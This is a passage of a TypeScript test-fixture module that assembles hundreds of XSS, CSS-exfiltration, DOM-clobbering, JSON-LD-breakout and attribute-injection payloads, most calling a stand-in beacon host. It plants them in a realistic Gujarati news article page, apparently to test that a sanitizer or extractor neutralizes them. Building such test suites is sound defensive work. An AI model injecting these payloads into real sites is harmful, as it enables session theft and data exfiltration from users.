  (id) => `<iframe srcdoc="&lt;iframe src=&amp;quot;javascript:${jvTop(id)}&amp;quot;&gt;&lt;/iframe&gt;"></iframe>`,
  (id) => `<frameset onload="${w(id)}"><frame src="${bc(id)}"></frameset>`,
  (id) => `<frame src="${bc(id)}"></frame>`,
  (id) => `<object data="${bc(id)}"></object>`,
  (id) => `<object type="text/html" data="${bc(id)}"></object>`,
  (id) => `<object classid="clsid:D27CDB6E-AE6D-11cf-96B8-444553540000" codebase="${bc(id)}"></object>`,
  (id) => `<object><param name="src" value="${bc(id)}"><param name="movie" value="javascript:${jv(id)}"><embed src="${bc(id)}/e"></object>`,
  (id) => `<embed src="${bc(id)}">`,
  (id) => `<embed type="text/html" src="${bc(id)}" width="1" height="1">`,
  (id) => `<applet code="Vanchan.class" codebase="${bc(id)}"></applet>`,
  (id) => `<applet archive="${bc(id)}.jar" code="x"><param name="x" value="y"></applet>`,
  (id) => `<portal src="${bc(id)}"></portal>`,
  (id) => `<fencedframe src="${bc(id)}"></fencedframe>`,
  (id) => `<iframe src="https://news.example/" srcdoc="&lt;script&gt;${pa(id)}&lt;/script&gt;"></iframe>`,
];

// --- CSS that exfiltrates -------------------------------------------------------------------------

const CSS: Maker[] = [
  (id) => `<p style="background:url(${bc(id)})">x</p>`,
  (id) => `<p style="background-image:url('${bc(id)}')">x</p>`,
  (id) => `<div style="background:url(&quot;${bc(id)}&quot;)">x</div>`,
  (id) => `<ul style="list-style-image:url(${bc(id)})"><li>x</li></ul>`,
  (id) => `<ul><li style="list-style:url(${bc(id)}) inside">x</li></ul>`,
  (id) => `<style>p::before{content:url(${bc(id)})}</style>`,
  (id) => `<style>@font-face{font-family:vanchan;src:url(${bc(id)})}body{font-family:vanchan}</style>`,
  (id) => `<style>@import '${bc(id)}';</style>`,
  (id) => `<style>@import url("${bc(id)}");</style>`,
  (id) => `<style>@\\69mport url(${bc(id)});</style>`,
  (id) => `<style>input[value^="a"]{background:url(${bc(id)}/a)}input[value^="b"]{background:url(${bc(id)}/b)}</style><input value="abc">`,
  (id) => `<style>a[href^="https://news.example/"]{background:url(${bc(id)})}</style>`,
  (id) => `<style>*{cursor:url(${bc(id)}),auto}</style>`,
  (id) => `<style>@keyframes k{from{background:url(${bc(id)})}}div{animation:k 1s}</style>`,
  (id) => `<style>@media all{body{background:image-set(url(${bc(id)}) 1x)}}</style>`,
  (id) => `<div style="behavior:url(${bc(id)})">x</div>`,
  (id) => `<div style="-moz-binding:url(${bc(id)}#xss)">x</div>`,
  (id) => `<div style="width:expression(${w(id)})">x</div>`,
  (id) => `<div style="background:url(javascript:${jv(id)})">x</div>`,
  (id) => `<div style="border-image:url(${bc(id)}) 30 round">x</div>`,
  (id) => `<div style="mask-image:url(${bc(id)})">x</div>`,
  (id) => `<div style="background:u\\72l(${bc(id)})">x</div>`,
  (id) => `<div style="--v:url(${bc(id)});background:var(--v)">x</div>`,
  (id) => `<table style="background:url(${bc(id)})"><tr><td>x</td></tr></table>`,
  (id) => `<img src="https://cdn.news.example/a.jpg" style="content:url(${bc(id)})" alt="">`,
  (id) => `<span style="font-family:x;src:url(${bc(id)})">x</span>`,
];

// --- DOM clobbering -------------------------------------------------------------------------

const CLOBBER: Maker[] = [
  (id) => `<img name="document" src=x onerror="${w(id)}">`,
  (id) => `<img id="location" name="cookie" src="${bc(id)}">`,
  (id) => `<form name="body" action="${bc(id)}"><input name="attributes"><input name="__proto__"></form>`,
  (id) => `<form id="getElementById" action="javascript:${jv(id)}"><button>x</button></form>`,
  (id) => `<a id="cookie" name="cookie" href="${bc(id)}">x</a>`,
  (id) => `<img name="getElementById" src=x onerror="${w(id)}">`,
  (id) => `<form name="createElement"><img name="__proto__" src=x onerror="${w(id)}"></form>`,
  (id) => `<a id="defaultView" href="javascript:${jv(id)}">x</a><a id="defaultView" name="location" href="${bc(id)}">x</a>`,
  (id) => `<iframe name="location" src="javascript:${jvTop(id)}"></iframe>`,
  (id) => `<object id="document" data="${bc(id)}"></object>`,
  (id) => `<embed name="attributes" src="${bc(id)}">`,
  (id) => `<form id="vanchanForm"><input id="attributes"><input id="nodeName" value="javascript:${jv(id)}"></form>`,
  (id) => `<img name="body" src=x onerror="${w(id)}"><img id="documentElement" src=x>`,
  (id) => `<div id="ownerDocument"><a name="location" href="${bc(id)}">x</a></div>`,
  (id) => `<img src=x name="currentScript" onerror="${w(id)}">`,
  (id) => `<a id="__proto__" href="${bc(id)}">x</a><a id="__proto__" name="constructor">y</a>`,
  (id) => `<form name="body"><img name="innerHTML" src=x onerror="${w(id)}"></form>`,
];

// --- Links, srcset, poster, ping, background --------------------------------------------------

const LINKS: Maker[] = [
  (id) => `<link rel="stylesheet" href="${bc(id)}">`,
  (id) => `<link rel="import" href="${bc(id)}">`,
  (id) => `<link rel="prefetch" href="${bc(id)}">`,
  (id) => `<link rel="preload" href="${bc(id)}" as="image">`,
  (id) => `<link rel="preload" href="${bc(id)}" as="script">`,
  (id) => `<link rel="modulepreload" href="${bc(id)}">`,
  (id) => `<link rel="prerender" href="${bc(id)}">`,
  (id) => `<link rel="icon" href="${bc(id)}">`,
  (id) => `<link rel="alternate stylesheet" title="x" href="${bc(id)}">`,
  (id) => `<link rel="preload" as="style" href="${bc(id)}" onload="${w(id)}">`,
];

const BEACON: Maker[] = [
  (id) => `<img srcset="${bc(id)} 1x" alt="">`,
  (id) => `<img src="https://cdn.news.example/a.jpg" srcset="${bc(id)} 2x, ${bc(id)}/w 640w" alt="">`,
  (id) => `<picture><source srcset="${bc(id)}"><img src="https://cdn.news.example/a.jpg" alt=""></picture>`,
  (id) => `<picture><source srcset="javascript:${jv(id)}" type="image/webp"><img alt=""></picture>`,
  (id) => `<video poster="${bc(id)}"></video>`,
  (id) => `<a ping="${bc(id)}" href="https://news.example/">x</a>`,
  (id) => `<map name="p"><area ping="${bc(id)}" href="https://news.example/" shape="default"></map>`,
  (id) => `<table background="${bc(id)}"><tr><td>x</td></tr></table>`,
  (id) => `<table><tr><td background="${bc(id)}">x</td></tr></table>`,
  (id) => `<body background="${bc(id)}">`,
  (id) => `<input type="image" src="${bc(id)}">`,
  (id) => `<video src="${bc(id)}"></video>`,
  (id) => `<audio src="${bc(id)}" autoplay></audio>`,
  (id) => `<video><source src="${bc(id)}"></video>`,
  (id) => `<video><track default src="${bc(id)}"></video>`,
  (id) => `<img lowsrc="${bc(id)}" src=x alt="">`,
  (id) => `<img dynsrc="${bc(id)}" alt="">`,
  (id) => `<img src="https://cdn.news.example/a.jpg" longdesc="${bc(id)}" alt="">`,
  (id) => `<q cite="${bc(id)}">x</q>`,
  (id) => `<img src="${bc(id)}" alt="">`,
  (id) => `<img src="${bc(id)}" sizes="1px" srcset="${bc(id)}/s 1w" alt="">`,
  (id) => `<image srcset="${bc(id)}"></image>`,
  (id) => `<a href="${bc(id)}" download>x</a>`,
  (id) => `<source srcset="${bc(id)}" media="all">`,
];

// --- Head, title, byline, JSON-LD, attributes ----------------------------------------------------

const HEAD: Maker[] = [
  (id) => `<script>${w(id)}</script>`,
  (id) => `<script src="${bc(id)}"></script>`,
  (id) => `<script type="module">import('${bc(id)}')</script>`,
  (id) => `<script>document.write('<img src=${bc(id)}>')</script>`,
  (id) => `<meta http-equiv="refresh" content="0;url=${bc(id)}">`,
  (id) => `<meta http-equiv="refresh" content="0;url=javascript:${wr(id)}">`,
  (id) => `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="referrer" content="unsafe-url"><link rel="prerender" href="${bc(id)}">`,
  (id) => `<base href="${bc(id)}/">`,
  (id) => `<base href="javascript:${jv(id)}//">`,
  (id) => `<link rel="stylesheet" href="${bc(id)}">`,
  (id) => `<link rel="import" href="${bc(id)}">`,
  (id) => `<link rel="prefetch" href="${bc(id)}">`,
  (id) => `<link rel="preload" href="${bc(id)}" as="fetch" crossorigin>`,
  (id) => `<link rel="modulepreload" href="${bc(id)}">`,
  (id) => `<link rel="icon" href="${bc(id)}">`,
  (id) => `<link rel="manifest" href="${bc(id)}">`,
  (id) => `<link rel="stylesheet" href="x" onerror="${w(id)}">`,
  (id) => `<link rel="stylesheet" href="data:text/css,@import url(${bc(id)});">`,
  (id) => `<style>@import url(${bc(id)});</style>`,
  (id) => `<style>body{background:url(${bc(id)})}</style>`,
  (id) => `<noscript><meta http-equiv="refresh" content="0;url=${bc(id)}"></noscript>`,
  (id) => `<noscript><link rel="stylesheet" href="${bc(id)}"></noscript>`,
  (id) => `<template><script>${w(id)}</script></template>`,
  (id) => `<object data="${bc(id)}"></object>`,
];

/** Put in <title> (raw), og:title (escaped), the <h1> (raw) and the JSON-LD headline. */
const TITLE: Maker[] = [
  (id) => `<img src=x onerror="${w(id)}">`,
  (id) => `<script>${w(id)}</script>`,
  (id) => `</title><script>${w(id)}</script>`,
  (id) => `</title><img src=x onerror=${wr(id)}>`,
  (id) => `&lt;img src=x onerror=${wr(id)}&gt;`,
  (id) => `&#60;script&#62;${w(id)}&#60;/script&#62;`,
  (id) => `&#x3C;svg onload=${wr(id)}&#x3E;`,
  (id) => `<svg onload=${wr(id)}></svg>`,
  (id) => `"><script>${w(id)}</script>`,
  (id) => `'"><img src=x onerror=${wr(id)}>`,
  (id) => `</script><script>${w(id)}</script>`,
  (id) => `<a href="javascript:${jv(id)}">x</a>`,
  (id) => `<iframe src="javascript:${jvTop(id)}"></iframe>`,
  (id) => `{{constructor.constructor("${w(id)}")()}}`,
  (id) => '$' + `{${w(id)}}`,
  (id) => `<style>@import '${bc(id)}';</style>`,
  (id) => `<math><mtext><img src=x onerror=${wr(id)}></mtext></math>`,
  (id) => `<noscript><img src=x onerror=${wr(id)}></noscript>`,
  (id) => `<textarea></textarea><img src=x onerror=${wr(id)}>`,
  (id) => `javascript:${jv(id)}`,
  (id) => `<b onmouseover=${wr(id)}>ગુજરાત</b>`,
  (id) => `\u2028\u2029<img src=x onerror=${wr(id)}>`,
  (id) => `<!--<img src=x onerror=${wr(id)}>-->`,
  (id) => `<details open ontoggle=${wr(id)}>x</details>`,
  (id) => `<img src="${bc(id)}">`,
];

/** Put in the author element (raw) and the JSON-LD author name; short, so that the byline stays one. */
const BYLINE: Maker[] = [
  (id) => `<img src=x onerror=${wr(id)}>`,
  (id) => `<script>${w(id)}</script>`,
  (id) => `</script><script>${w(id)}</script>`,
  (id) => `&lt;img src=x onerror=${wr(id)}&gt;`,
  (id) => `&#60;svg onload=${wr(id)}&#62;`,
  (id) => `<a href="javascript:${jv(id)}">x</a>`,
  (id) => `<svg onload=${wr(id)}></svg>`,
  (id) => `"><img src=x onerror=${wr(id)}>`,
  (id) => `<style>@import '${bc(id)}'</style>`,
  (id) => `<iframe srcdoc="&lt;script&gt;${pa(id)}&lt;/script&gt;"></iframe>`,
  (id) => `<details open ontoggle=${wr(id)}></details>`,
  (id) => `<input autofocus onfocus=${wr(id)}>`,
  (id) => `<math><mtext><img src=x onerror=${wr(id)}></mtext></math>`,
  (id) => `<!--><img src=x onerror=${wr(id)}>-->`,
  (id) => `javascript:${jv(id)}`,
  (id) => `<img src="${bc(id)}">`,
  (id) => `<a rel="author" href="${bc(id)}">x</a>`,
];

/** Put raw in a JSON-LD string: each one tries to leave the script element. */
const JSONLD: Maker[] = [
  (id) => `</script><script>${w(id)}</script>`,
  (id) => `</SCRIPT><script>${w(id)}</script>`,
  (id) => `</script ><img src=x onerror=${wr(id)}>`,
  (id) => `</script\t><svg onload=${wr(id)}></svg>`,
  (id) => `</script/><iframe srcdoc="&lt;script&gt;${pa(id)}&lt;/script&gt;"></iframe>`,
  (id) => `</script foo="bar"><script src="${bc(id)}"></script>`,
  (id) => `</script><base href="${bc(id)}/">`,
  (id) => `</script><meta http-equiv="refresh" content="0;url=${bc(id)}">`,
  (id) => `<!--<script>"}</script><script>${w(id)}</script>-->`,
  (id) => `\\u003c/script\\u003e\\u003cscript\\u003e${w(id)}\\u003c/script\\u003e`,
  (id) => `</script><link rel="stylesheet" href="${bc(id)}">`,
  (id) => `</script><form action="${bc(id)}"><button>x</button></form>`,
  (id) => `</script><style>@import url(${bc(id)})</style>`,
  (id) => `</script><svg><script>${w(id)}</script></svg>`,
  (id) => `</script><!--x--><img src=x onerror=${wr(id)}>`,
  (id) => `&lt;/script&gt;&lt;script&gt;${w(id)}&lt;/script&gt;`,
];

/** Raw values put between double quotes in attributes of body elements; the kind names the
 * attribute (see ATTRIBUTE_HOSTS). Each keeps the quotes balanced so the page goes on. */
const ATTRIBUTE: Record<'alt' | 'title' | 'href' | 'src' | 'srcset' | 'style', Maker[]> = {
  alt: [
    (id) => `x" onerror="${w(id)}`,
    (id) => `x"><script>${w(id)}</script><img alt="`,
    (id) => `x"><img src=x onerror=${wr(id)}><img alt="`,
    (id) => `x" src="x" onerror="${w(id)}`,
    (id) => `&quot; onerror=&quot;${w(id)}`,
    (id) => `x" onload="${w(id)}" src="${GIF}`,
    (id) => `x"/onerror="${w(id)}`,
    (id) => `\`x\` onerror=${wr(id)} y=\``,
    (id) => `x"><svg onload=${wr(id)}></svg><img alt="`,
  ],
  title: [
    (id) => `x" onmouseover="${w(id)}`,
    (id) => `x" style="position:fixed;inset:0" onmouseover="${w(id)}`,
    (id) => `x"><img src=x onerror=${wr(id)}></abbr><abbr title="`,
    (id) => `</abbr><script>${w(id)}</script>`,
    (id) => `x" autofocus tabindex="1" onfocus="${w(id)}`,
    (id) => `x" accesskey="x" onclick="${w(id)}`,
  ],
  href: [
    (id) => `javascript:${jv(id)}`,
    (id) => ` &#x09;JaVa&#x0A;ScRiPt&colon;${jv(id)}`,
    (id) => `\u0001javascript:${jv(id)}`,
    (id) => `https://news.example/" onclick="${w(id)}`,
    (id) => `https://news.example/"><script>${w(id)}</script>x</a><a href="`,
    (id) => `data:text/html,${htmlDoc(id)}`,
    (id) => `vbscript:window.location.href=&quot;${bc(id)}&quot;`,
    (id) => bc(id),
    (id) => `#" onmouseover="${w(id)}`,
    (id) => `javascript:${fb(id)}`,
  ],
  src: [
    (id) => bc(id),
    (id) => `x" onerror="${w(id)}`,
    (id) => `javascript:${jv(id)}`,
    (id) => `data:image/svg+xml,<svg xmlns='${SVG_NS}' onload='fetch(\`${bc(id)}\`)'/>`,
    (id) => `data:text/html;base64,${b64(htmlDoc(id))}`,
    (id) => `x"><iframe src="javascript:${jvTop(id)}"></iframe><img src="`,
    (id) => `${bc(id)}" srcset="${bc(id)}/2x 2x`,
    (id) => `&#106;avascript:${jv(id)}`,
  ],
  srcset: [
    (id) => `${bc(id)} 1x`,
    (id) => `https://cdn.news.example/a.jpg 1x, ${bc(id)} 2x`,
    (id) => `javascript:${jv(id)} 1x`,
    (id) => `data:text/html,${htmlDoc(id)} 1x`,
    (id) => `x" onerror="${w(id)}`,
    (id) => `https://cdn.news.example/a.jpg 1x" onload="${w(id)}`,
    (id) => ` javascript:${jv(id)}`,
  ],
  style: [
    (id) => `background:url(${bc(id)})`,
    (id) => `background-image:url('${bc(id)}')`,
    (id) => `list-style-image:url(${bc(id)});display:list-item`,
    (id) => `width:expression(${w(id)})`,
    (id) => `behavior:url(${bc(id)})`,
    (id) => `x:y" onmouseover="${w(id)}`,
    (id) => `background:url(javascript:${jv(id)})`,
    (id) => `background:u\\72l(${bc(id)})`,
    (id) => `-moz-binding:url(${bc(id)}#x)`,
    (id) => `" onanimationstart="${w(id)}" style="animation:vanchan 1s`,
    (id) => `background:url(&quot;${bc(id)}&quot;)`,
  ],
};

export type AttributeHost = keyof typeof ATTRIBUTE;

export const HOSTILE_PAYLOADS: readonly Payload[] = Object.freeze([
  ...group('body', 'script', SCRIPT),
  ...group('body', 'handler', HANDLER),
  ...group('body', 'jsurl-link', JS_URL_LINK),
  ...group('body', 'jsurl', JS_URL_TARGET),
  ...group('body', 'dataurl', DATA_URL),
  ...group('body', 'svg', SVG),
  ...group('body', 'mathml', MATHML),
  ...group('body', 'mxss', MXSS),
  ...group('body', 'form', FORM),
  ...group('body', 'meta', META),
  ...group('body', 'frame', FRAME),
  ...group('body', 'css', CSS),
  ...group('body', 'clobber', CLOBBER),
  ...group('body', 'link', LINKS),
  ...group('body', 'beacon', BEACON),
  ...group('head', 'head', HEAD),
  ...group('title', 'title', TITLE),
  ...group('byline', 'byline', BYLINE),
  ...group('jsonld', 'jsonld', JSONLD),
  ...(Object.keys(ATTRIBUTE) as AttributeHost[]).flatMap((name) => group('attribute', name, ATTRIBUTE[name])),
]);

// --- The page --------------------------------------------------------------------------------

export const HOSTILE_PAGE_URL = 'https://news.example/gujarat/saurashtra-first-monsoon-rain';
export const HOSTILE_PAGE_SITE_NAME = 'સમાચાર દર્પણ';
export const HOSTILE_PAGE_HEADLINE = 'સૌરાષ્ટ્રમાં ચોમાસાના પહેલા વરસાદથી ખેડૂતોમાં આનંદ, વાવણીની તૈયારી શરૂ';
export const HOSTILE_PAGE_AUTHOR = 'કિરણ જોષી';
const DESCRIPTION = 'રાજકોટ, જૂનાગઢ અને અમરેલી જિલ્લામાં ચોમાસાના પહેલા વરસાદ બાદ ખેડૂતો મગફળી અને કપાસની વાવણીની તૈયારીમાં લાગ્યા.';
const PUBLISHED = '2025-06-14T08:30:00+05:30';

/** The paragraphs every hostile page contains (so a test can check the article still shows). */
export const HOSTILE_PAGE_PARAGRAPHS: readonly string[] = Object.freeze([
  'રાજકોટ, જૂનાગઢ અને અમરેલી જિલ્લામાં ગઈકાલે રાત્રે શરૂ થયેલા ચોમાસાના પહેલા વરસાદે લાંબા સમયથી રાહ જોતા ખેડૂતોના ચહેરા પર સ્મિત લાવી દીધું છે. હવામાન વિભાગના આંકડા મુજબ કેટલાક તાલુકાઓમાં માત્ર છ કલાકમાં ત્રણ ઇંચથી વધુ વરસાદ નોંધાયો હતો, જ્યારે ગામડાંઓમાં નાનાં તળાવો અને ચેકડેમ ફરી ભરાવા લાગ્યા છે. ખેડૂતો હવે મગફળી અને કપાસની વાવણીની તૈયારીમાં લાગી ગયા છે.',
  'ગોંડલ તાલુકાના એક ગામના ખેડૂત રમેશભાઈ વાઘેલાએ જણાવ્યું હતું કે ગયા વર્ષે વરસાદ મોડો આવ્યો હતો અને તેમને બે વાર વાવણી કરવી પડી હતી. આ વખતે સમયસર વરસાદ આવતાં બિયારણ અને ખાતરનો ખર્ચ બચશે એવી તેમને આશા છે. ગામના બીજા ખેડૂતો પણ સવારથી જ ખેતરોમાં બળદ અને ટ્રેક્ટર લઈને પહોંચી ગયા હતા અને જમીન ખેડવાનું કામ શરૂ કરી દીધું હતું.',
  'બીજી તરફ શહેરોમાં ભારે વરસાદને કારણે અનેક નીચાણવાળા વિસ્તારોમાં પાણી ભરાઈ ગયા હતા. રાજકોટ મહાનગરપાલિકાની ટીમોએ આખી રાત કામ કરીને ગટરો સાફ કરી અને મુખ્ય રસ્તાઓ પરથી પાણીનો નિકાલ કર્યો હતો. કેટલીક સોસાયટીઓમાં વીજળી થોડા કલાકો માટે ખોરવાઈ ગઈ હતી, પરંતુ વીજ કંપનીના કર્મચારીઓએ સવાર સુધીમાં મોટા ભાગના વિસ્તારોમાં પુરવઠો ફરી શરૂ કરી દીધો હતો.',
  'જિલ્લા કલેક્ટરે તમામ મામલતદારોને સતર્ક રહેવાની સૂચના આપી છે અને નદી કાંઠાના ગામોના લોકોને નદીના પટમાં ન જવાની અપીલ કરી છે. ભાદર અને શેત્રુંજી નદીના ઉપરવાસમાં સારો વરસાદ થવાથી આગામી બે દિવસમાં ડેમોની સપાટી વધવાની શક્યતા છે. જરૂર પડે તો નીચાણવાળા વિસ્તારોમાંથી લોકોને સલામત સ્થળે ખસેડવા માટે શાળાઓ અને સમાજની વાડીઓ તૈયાર રાખવામાં આવી છે.',
  'હવામાન વિભાગે આગામી પાંચ દિવસ દરમિયાન સૌરાષ્ટ્ર અને કચ્છના મોટા ભાગના જિલ્લાઓમાં હળવાથી મધ્યમ વરસાદની આગાહી કરી છે. દરિયામાં ભારે પવન ફૂંકાવાની સંભાવનાને કારણે માછીમારોને ત્રણ દિવસ સુધી દરિયો ન ખેડવાની ચેતવણી આપવામાં આવી છે. પોરબંદર, વેરાવળ અને માંગરોળના બંદરો પર ભયસૂચક સિગ્નલ લગાવવામાં આવ્યા છે અને બોટોને કિનારે પાછી બોલાવી લેવામાં આવી છે.',
  'કૃષિ નિષ્ણાતોનું કહેવું છે કે જમીનમાં પૂરતો ભેજ આવે ત્યાં સુધી ખેડૂતોએ ઉતાવળમાં વાવણી કરવી ન જોઈએ. ઓછામાં ઓછો ચાર ઇંચ વરસાદ થયા પછી જ મગફળી વાવવી વધુ સલામત છે, નહીં તો બીજ ઊગવામાં તકલીફ પડી શકે છે. કૃષિ યુનિવર્સિટીએ ખેડૂતો માટે હેલ્પલાઇન નંબર પણ જાહેર કર્યો છે, જેના પર ફોન કરીને પાક અને બિયારણ અંગે મફત માર્ગદર્શન મેળવી શકાય છે.',
]);

const PHOTO = 'https://cdn.news.example/photos/2025/06/rain-field.jpg';

/** Body elements whose attribute (named by the payload's kind) receives an 'attribute' payload raw. */
const ATTRIBUTE_HOSTS: Record<AttributeHost, (value: string) => string> = {
  alt: (v) => `<img alt="${v}" src="${PHOTO}">`,
  title: (v) => `<abbr title="${v}">IMD</abbr>`,
  href: (v) => `<a href="${v}">વધુ વાંચો</a>`,
  src: (v) => `<img src="${v}" alt="ફોટો">`,
  srcset: (v) => `<img alt="" src="${PHOTO}" srcset="${v}">`,
  style: (v) => `<span style="${v}">ફોટો: ${HOSTILE_PAGE_SITE_NAME}</span>`,
};

function attributeHost(payload: Payload): (value: string) => string {
  const name = payload.id.split('-')[1] as AttributeHost;
  const host = ATTRIBUTE_HOSTS[name];
  if (!host) throw new Error(`no attribute host for ${payload.id}`);
  return host;
}

/** HTML-escaped, as a careful CMS writes a meta content attribute. */
function escapeAttribute(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

/** JSON as PHP's json_encode writes it by default: "/" escaped, so "</script>" cannot end the script. */
function phpJson(value: unknown): string {
  return JSON.stringify(value).replace(/\//g, '\\/');
}

function jsonLdBlock(payloadHtml: string): string {
  return `<script type="application/ld+json">{"@context":"https://schema.org","@type":"WebPage","name":"${payloadHtml}","url":"${HOSTILE_PAGE_URL}"}</script>`;
}

/** The markup a payload becomes where the page puts it, on its own (for one-payload checks). */
export function payloadInContext(payload: Payload): string {
  switch (payload.place) {
    case 'attribute':
      return attributeHost(payload)(payload.html);
    case 'title':
      return `<h1>${HOSTILE_PAGE_HEADLINE} ${payload.html}</h1>`;
    case 'byline':
      return `<span class="author">${HOSTILE_PAGE_AUTHOR} ${payload.html}</span>`;
    case 'jsonld':
      return jsonLdBlock(payload.html);
    default:
      return payload.html;
  }
}

/** The default beacon origin replaced by `origin`, also inside base64 that carries it. */
function rebase(html: string, origin: string): string {
  if (origin === DEFAULT_BEACON_ORIGIN) return html;
  return html
    .replace(/(base64,|atob\(['"])([A-Za-z0-9+/]+={0,2})/g, (whole, lead: string, data: string) => {
      let decoded: string;
      try {
        decoded = atob(data);
      } catch {
        return whole;
      }
      return decoded.includes(DEFAULT_BEACON_ORIGIN) ? lead + btoa(decoded.split(DEFAULT_BEACON_ORIGIN).join(origin)) : whole;
    })
    .split(DEFAULT_BEACON_ORIGIN)
    .join(origin);
}

/** Payloads that may swallow the rest of the document, and go last: <plaintext> does in every
 * parser; in happy-dom's (used by the CLI and the unit tests) so do a <script> or <style> inside
 * <svg> or <math>, after which it drops everything, and an <html> tag in the body, which it nests
 * instead of merging. */
const SWALLOWS_THE_REST = /<plaintext|<(?:svg|math)\b[\s\S]*<(?:script|style)\b|<html\b/i;

/** A complete, realistic Gujarati article page with the given payloads embedded at their places:
 * 'body' ones between and inside (after the text of) the paragraphs, 'title' ones in <title>,
 * og:title, the <h1> and the JSON-LD headline, 'byline' ones in the author element and the
 * JSON-LD author name, 'jsonld' ones in JSON-LD blocks they try to leave, 'head' ones at the end
 * of <head>, 'attribute' ones inside attributes of body elements. The article stays extractable. */
export function hostilePage(payloads: readonly Payload[], options: { beaconOrigin?: string } = {}): string {
  const origin = options.beaconOrigin ?? DEFAULT_BEACON_ORIGIN;
  const at = (place: PayloadPlace) => payloads.filter((p) => p.place === place);
  const raw = (place: PayloadPlace) => at(place).map((p) => rebase(p.html, origin));
  const titles = raw('title');
  const bylines = raw('byline');
  const titleText = [HOSTILE_PAGE_HEADLINE, ...titles].join(' ');
  const authorText = [HOSTILE_PAGE_AUTHOR, ...bylines].join(' ');

  const articleJson = phpJson({
    '@context': 'https://schema.org',
    '@type': 'NewsArticle',
    mainEntityOfPage: { '@type': 'WebPage', '@id': HOSTILE_PAGE_URL },
    headline: titleText,
    description: DESCRIPTION,
    image: [PHOTO],
    datePublished: PUBLISHED,
    dateModified: PUBLISHED,
    inLanguage: 'gu',
    author: [{ '@type': 'Person', name: authorText, url: 'https://news.example/author/kiran-joshi' }],
    publisher: {
      '@type': 'NewsMediaOrganization',
      name: HOSTILE_PAGE_SITE_NAME,
      logo: { '@type': 'ImageObject', url: 'https://news.example/static/logo.png' },
    },
  });

  // Body and attribute payloads, spread over the six paragraphs: inside one, then after it.
  const slots = HOSTILE_PAGE_PARAGRAPHS.length * 2;
  const inside: string[][] = HOSTILE_PAGE_PARAGRAPHS.map(() => []);
  const after: string[][] = HOSTILE_PAGE_PARAGRAPHS.map(() => []);
  const inBody = payloads.filter((p) => p.place === 'body' || p.place === 'attribute');
  const lastOnes = inBody.filter((p) => SWALLOWS_THE_REST.test(p.html));
  inBody
    .filter((p) => !lastOnes.includes(p))
    .forEach((p, i) => {
      const slot = i % slots;
      const paragraph = Math.floor(slot / 2);
      const markup = rebase(payloadInContext(p), origin);
      (slot % 2 === 0 ? inside : after)[paragraph]!.push(markup);
    });

  const paragraphs = HOSTILE_PAGE_PARAGRAPHS.map((text, i) => {
    const within = inside[i]!.length ? ` ${inside[i]!.join(' ')}` : '';
    const between = after[i]!.length ? `\n${after[i]!.join('\n')}` : '';
    const figure =
      i === 1
        ? `\n<figure class="story-image"><img src="${PHOTO}" alt="વરસાદ બાદ ખેતરમાં કામ કરતા ખેડૂતો" width="800" height="450"><figcaption>ગોંડલ પાસે વરસાદ બાદ ખેતરમાં કામ કરતા ખેડૂતો</figcaption></figure>`
        : '';
    return `<p>${text}${within}</p>${figure}${between}`;
  }).join('\n');

  return `<!doctype html>
<html lang="gu" dir="ltr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="description" content="${escapeAttribute(DESCRIPTION)}">
<link rel="canonical" href="${HOSTILE_PAGE_URL}">
<meta property="og:type" content="article">
<meta property="og:site_name" content="${HOSTILE_PAGE_SITE_NAME}">
<meta property="og:title" content="${escapeAttribute(titleText)}">
<meta property="og:description" content="${escapeAttribute(DESCRIPTION)}">
<meta property="og:url" content="${HOSTILE_PAGE_URL}">
<meta property="og:image" content="${PHOTO}">
<meta property="article:published_time" content="${PUBLISHED}">
<script type="application/ld+json">${articleJson}</script>
<title>${titleText} | ${HOSTILE_PAGE_SITE_NAME}</title>
${raw('head').join('\n')}
</head>
<body class="article-page">
<header class="site-header">
<a class="logo" href="https://news.example/">${HOSTILE_PAGE_SITE_NAME}</a>
<nav class="main-nav"><a href="https://news.example/gujarat">ગુજરાત</a> <a href="https://news.example/india">દેશ</a> <a href="https://news.example/sports">રમતગમત</a> <a href="https://news.example/business">વેપાર</a></nav>
</header>
<main class="content">
<article class="story">
<header class="story-header">
<h1 class="story-title">${titleText}</h1>
<div class="story-meta"><span class="author">લેખક: <a rel="author" href="https://news.example/author/kiran-joshi">${HOSTILE_PAGE_AUTHOR}</a>${bylines.length ? ` ${bylines.join(' ')}` : ''}</span> · <time datetime="${PUBLISHED}">૧૪ જૂન ૨૦૨૫, સવારે ૮:૩૦</time></div>
</header>
<div class="story-body">
${paragraphs}
</div>
</article>
</main>
<footer class="site-footer">
<p>© ૨૦૨૫ ${HOSTILE_PAGE_SITE_NAME}. સર્વ હક્ક સ્વાધીન.</p>
<nav><a href="https://news.example/about">અમારા વિશે</a> <a href="https://news.example/contact">સંપર્ક</a> <a href="https://news.example/privacy">ગોપનીયતા નીતિ</a></nav>
</footer>
${raw('jsonld').map(jsonLdBlock).join('\n')}
${lastOnes.map((p) => rebase(p.html, origin)).join('\n')}
</body>
</html>
`;
}
